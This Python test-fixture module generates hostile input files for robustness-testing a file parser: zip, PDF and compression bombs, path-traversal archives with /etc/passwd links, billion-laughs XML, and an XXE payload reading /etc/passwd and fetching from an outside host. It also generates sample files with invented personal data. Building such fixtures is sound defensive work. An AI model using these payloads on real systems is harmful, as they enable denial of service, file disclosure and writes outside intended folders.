"""The hostile files themselves, each built from nothing; and small good files to mutate."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path


def zipped(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return sink.getvalue()


def zeros(size: int) -> bytes:
    """A deflate stream of so many zeros, made in pieces."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [packer.compress(bytes(1 << 20)) for _ in range(size >> 20)]
    return b"".join([*out, packer.flush()])


def entry(name: str, stream: bytes, size: int, offset: int, crc: int) -> tuple[bytes, bytes]:
    """(local header with its stream, central entry) of a ZIP member whose sizes are as claimed."""
    raw = name.encode()
    fields = (20, 0, 8, 0, 0, crc, len(stream), size, len(raw), 0)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields) + raw + stream
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, *fields[:9], 0, 0, 0, 0, 0, offset) + raw
    return local, central


def ended(locals_: bytes, centrals: list[bytes]) -> bytes:
    joined = b"".join(centrals)
    return locals_ + joined + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(centrals), len(centrals), len(joined), len(locals_), 0)


def flat_bomb() -> bytes:
    """1 GB of zeros in 1 MB."""
    local, central = entry("zeros", zeros(1 << 30), 1 << 30, 0, 0)
    return ended(local, [central])


def lying_bomb() -> bytes:
    """The same, with a size that claims one kilobyte."""
    local, central = entry("small.txt", zeros(1 << 30), 1024, 0, 0)
    return ended(local, [central])


def nested_bomb() -> bytes:
    content = zipped({"zeros": bytes(20 << 20)})
    for _ in range(5):
        content = zipped({f"{place}.zip": content for place in range(16)})
    return content


def overlapping_bomb() -> bytes:
    """One stream that 2,000 members share."""
    stream = zeros(50 << 20)
    local, _ = entry("0", stream, 50 << 20, 0, 0)
    centrals = [entry("0", stream, 50 << 20, 0, 0)[1] for _ in range(2000)]
    return ended(local, centrals)


def quine_like() -> bytes:
    content = b"bottom"
    for number in range(120):
        content = zipped({f"{number}.zip": content})
    return content


def many_members() -> bytes:
    return zipped({f"{number}": b"" for number in range(60_000)}, stored=True)


def traversal_zip() -> bytes:
    return zipped(
        {
            "../../../escaped.txt": b"out",
            "/etc/escaped.txt": b"out",
            "..\\..\\escaped.txt": b"out",
            "a\x00b\n.txt": b"in",
            "C:/escaped": b"out",
        }
    )


def traversal_tar() -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as packed:
        for name in ("../../escaped.txt", "/tmp/escaped.txt"):  # noqa: S108 a name inside an archive
            one = tarfile.TarInfo(name)
            one.size = 3
            packed.addfile(one, io.BytesIO(b"out"))
        for kind, target in ((tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "../../etc/passwd"), (tarfile.CHRTYPE, "")):
            one = tarfile.TarInfo(f"link{kind.decode()}")
            one.type, one.linkname = kind, target
            packed.addfile(one)
    return sink.getvalue()


def laughs(inside: str = "") -> bytes:
    lines = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{one} "{f"&a{one - 1};" * 10}">' for one in range(1, 12)]
    return f'<?xml version="1.0"?><!DOCTYPE r [{"".join(lines)}]><r>{inside}&a11;</r>'.encode()


def quadratic() -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"x" * 100_000}">]><r>{"&a;" * 100_000}</r>'.encode()


def outside() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://192.0.2.1/x"> %y;]><r>&x;</r>'


def office(parts: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", **parts})


def far_cell() -> bytes:
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    book = (
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
    )
    return office({"xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": links, "xl/worksheets/sheet1.xml": sheet})


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")


def tiff_loop() -> bytes:
    """A directory of a page that names itself as the next."""
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 10) + struct.pack("<I", 8)


def pdf(objects: list[bytes]) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(out))


def pdf_page_loop() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999/Parent 2 0 R>>"])


def pdf_outline_loop() -> bytes:
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>",
        b"<</First 5 0 R/Last 5 0 R>>", b"<</Title(loop)/Next 5 0 R/Parent 4 0 R/First 4 0 R>>",
    ])  # fmt: skip


def pdf_stream_bomb() -> bytes:
    stream = zlib.compress(zlib.compress(bytes(200 << 20), 9), 9)
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(stream) + stream + b"\nendstream",
    ])  # fmt: skip


def pdf_form_loop() -> bytes:
    draw = b"/X Do"
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>>>>>",
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length %d>>stream\n" % len(draw) + draw + b"\nendstream",
    ])  # fmt: skip


def deep_mail() -> bytes:
    content = b"Subject: bottom\nFrom: a@example.com\n\nbottom\n"
    for number in range(300):
        mark = b"b%d" % number
        content = (
            b"From: a@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=" + mark + b"\n\n--" + mark
            + b"\nContent-Type: message/rfc822\n\n" + content + b"\n--" + mark + b"--\n"
        )  # fmt: skip
    return content


CASES: dict[str, Callable[[], bytes]] = {
    "flat.zip": flat_bomb, "lying.zip": lying_bomb, "nested.zip": nested_bomb, "overlapping.zip": overlapping_bomb, "deep.zip": quine_like,
    "many.zip": many_members, "traversal.zip": traversal_zip, "traversal.tar": traversal_tar, "laughs.xml": laughs, "quadratic.xml": quadratic,
    "outside.xml": outside, "laughs.docx": lambda: office({"word/document.xml": laughs()}),
    "bomb.docx": lambda: office({"word/document.xml": b"<w:p>" + bytes(300 << 20)}), "far.xlsx": far_cell, "huge.png": lambda: png(60_000, 60_000),
    "wide.png": lambda: png(2_000_000_000, 1), "loop.tif": tiff_loop, "pages.pdf": pdf_page_loop, "outline.pdf": pdf_outline_loop,
    "streams.pdf": pdf_stream_bomb, "forms.pdf": pdf_form_loop, "mails.eml": deep_mail, "gzip.gz": lambda: gzip.compress(bytes(600 << 20), 9),
    "bzip.bz2": lambda: bz2.compress(bytes(600 << 20), 9), "deep.html": lambda: b"<html>" + b"<div>" * 500_000 + b"x",
    "deep.xml": lambda: b"<?xml version='1.0'?>" + b"<a>" * 300_000, "deep.json": lambda: b"[" * 500_000, "deep.rtf": lambda: b"{\\rtf1" + b"{" * 500_000,
    "wide.csv": lambda: b",".join(b"c%d" % one for one in range(200_000)) + b"\n" + b"," * 199_999, "long.txt": lambda: b"a" * (30 << 20),
    "aliases.yaml": lambda: b"---\n" + b"".join(
        b"a%d: &a%d [%s]\n" % (one, one, b",".join([b"*a%d" % (one - 1)] * 9) if one else b"1") for one in range(30)
    ),
    "quotes.sql": lambda: b"INSERT INTO t VALUES (" + b"'" * 1_000_001, "open.csv": lambda: b'a,b,c\n"' + b"x,\n" * 2_000_000,
    "boundary.eml": lambda: b"From: a@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\n\n" * 50_000,
    "ole.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 5000, "ole.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
    "cards.vcf": lambda: b"BEGIN:VCARD\n" * 200_000, "segments.x12": lambda: b"ISA*00*" + b" " * 98 + b"~" * 500_000,
    "pg.dump": lambda: b"PGDMP\x01\x0e\x00\x04\x08\x01" + b"\x00\xff\xff\xff\x7f" * 500, "empty.txt": lambda: b"", "one.bin": lambda: b"\x00",
}  # fmt: skip


def _duckdb() -> bytes:
    import duckdb

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "good.duckdb"
        with duckdb.connect(str(path)) as base:
            base.execute("CREATE TABLE people AS SELECT 'Ada ' || i AS name, {'ssn': '900-00-0001'} AS ids FROM range(50) t(i)")
        return path.read_bytes()


def good_files() -> dict[str, bytes]:
    """Small files of many kinds with invented content."""
    import bson
    import openpyxl
    from docx import Document
    from pptx import Presentation

    made: dict[str, bytes] = {}
    sink = io.BytesIO()
    document = Document()
    document.add_heading("Staff", 1)
    document.add_paragraph("Ada Example, born 1970-01-01, ada@example.com, 212-555-0101")
    document.add_table(2, 2).cell(0, 0).text = "SSN"
    document.save(sink)
    made["good.docx"] = sink.getvalue()
    sink = io.BytesIO()
    book = openpyxl.Workbook()
    for row in (("Name", "SSN"), *((f"Person {one}", f"900-00-{one:04}") for one in range(50))):
        book.active.append(row)
    book.save(sink)
    made["good.xlsx"] = sink.getvalue()
    sink = io.BytesIO()
    slides = Presentation()
    slides.slides.add_slide(slides.slide_layouts[0]).shapes.title.text = "Quarter"
    slides.save(sink)
    made["good.pptx"] = sink.getvalue()
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "ada@example.com", "bo@example.org", "Pay"
    mail.set_content("See the list.")
    mail.add_alternative("<p>See <b>the</b> list.</p>", subtype="html")
    mail.add_attachment(made["good.xlsx"], maintype="application", subtype="octet-stream", filename="pay.xlsx")
    made["good.eml"] = mail.as_bytes()
    made["good.mbox"] = b"From a@example.com Mon Mar  2 09:00:00 2026\n" + mail.as_bytes() + b"\n"
    made["good.zip"] = zipped({"a/good.docx": made["good.docx"], "b.txt": b"text " * 50})
    made["good.pdf"] = pdf([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F <</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
        b"<</Length 52>>stream\nBT /F 12 Tf 20 200 Td (Ada Example 900-00-0001) Tj ET \nendstream",
    ])  # fmt: skip
    made["good.rtf"] = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Ada \\b Example\\b0\\par 900-00-0001{\\v hidden}{\\*\\annotation note}}"
    made["good.json"] = json.dumps([{"name": f"Person {one}", "n": one} for one in range(40)]).encode()
    made["good.xml"] = (
        b"<?xml version='1.0'?><r>" + b"".join(b"<p><n>Ada %d</n><s>900-00-%04d</s></p>" % (one, one) for one in range(40)) + b"</r>"
    )
    made["good.html"] = b"<html><body><table><tr><th>Name<th>SSN<tr><td>Ada<td>900-00-0001</table></body></html>"
    made["good.csv"] = b"Name,SSN\n" + b"".join(b"Ada %d,900-00-%04d\n" % (one, one) for one in range(60))
    made["good.bson"] = b"".join(
        bson.encode({"name": {"first": "Ada", "last": f"Example{one}"}, "ssn": f"900-00-{one:04}", "pay": [1.5, None]}) for one in range(40)
    )
    made["good logins.txt"] = b"".join(b"ada%d@example.com:Tulip-%d7!\n" % (one, one * one) for one in range(40))
    made["good records.txt"] = b"\n".join(
        b"Name : Ada %d\nMail : ada%d@example.com\nSSN  : 900-00-%04d\n" % (one, one, one) for one in range(20)
    )
    made["good.duckdb"] = _duckdb()
    made["good.png"] = png(60, 60)
    made["good.vcf"] = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada Example\r\nTEL;TYPE=cell:212-555-0101\r\nEND:VCARD\r\n"
    made["good.hl7"] = (
        b"MSH|^~\\&|A|B|C|D|20260101||ADT^A01|1|P|2.5\rPID|1||77^^^H^MR||Example^Ada||19700101|F|||1 Main St^^Town^NY^10001\r"
    )
    made["good.tar"] = traversal_tar()
    made["good.gz"] = gzip.compress(made["good.csv"])
    made["good.dcm"] = (
        bytes(128)
        + b"DICM"
        + b"".join(
            struct.pack("<HH2sH", group, number, b"LO", len(value)) + value
            for group, number, value in ((16, 16, b"Example^Ada "), (16, 32, b"77 "))
        )
    )
    with tempfile.TemporaryDirectory() as folder:
        base = sqlite3.connect(Path(folder) / "b")
        base.execute("CREATE TABLE p (name TEXT, ssn TEXT)")
        base.executemany("INSERT INTO p VALUES (?, ?)", [(f"Ada {one}", f"900-00-{one:04}") for one in range(50)])
        base.commit()
        base.close()
        made["good.sqlite"] = (Path(folder) / "b").read_bytes()
    return made
